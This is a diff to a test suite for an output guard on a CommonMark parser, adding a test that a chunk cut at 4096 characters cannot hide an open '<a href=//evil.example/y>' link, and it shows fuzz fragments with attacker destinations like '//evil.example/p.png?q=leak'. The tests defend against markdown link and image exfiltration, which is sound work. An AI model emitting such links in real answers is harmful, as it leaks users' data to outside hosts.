@@ -213,6 +213,14 @@ describe("security: answer guard on a CommonMark parser (issue 25)", () => {
     expect(5000 - out.length).toBeLessThanOrEqual(4096);
   });
 
+  it("security: a piece cut at 4096 characters without a line end never ends inside an open `<` (micromark reads `<a href=x/y>` as text)", () => {
+    const answer = `${"x".repeat(4095)}<a href=//evil.example/y>z`;
+    expect(foreignTargets(answer).length).toBeGreaterThan(0);
+    const clean = guard.clean(answer);
+    expect(foreignTargets(clean)).toEqual([]);
+    expect(streamed(guard, answer, 1000)).toBe(clean);
+  });
+
   /** Fragments an attacker combines: syntax, escapes, entities, containers, destinations. */
   const destination = fc.constantFrom(
     "//evil.example/p.png?q=leak",
